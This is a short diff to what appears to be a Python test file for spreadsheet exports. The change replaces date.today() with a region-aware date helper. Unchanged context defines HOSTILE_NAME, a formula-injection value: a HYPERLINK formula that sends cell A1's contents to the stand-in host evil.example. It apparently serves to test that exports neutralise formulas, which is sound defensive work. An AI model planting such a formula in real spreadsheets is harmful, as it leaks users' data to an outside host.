@@ -26,10 +26,11 @@ from services.registry.spreadsheet import (
     read_base,
 )
 from services.reporting.list_exports import EXPORTS
+from shared.adapters.settings import region_today
 from shared.dictionaries import MenteeCategory
 from shared.sheets import neutralised, table_workbook, unneutralised
 
-TODAY = date.today()
+TODAY = region_today()
 HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Открыть")'
 
 
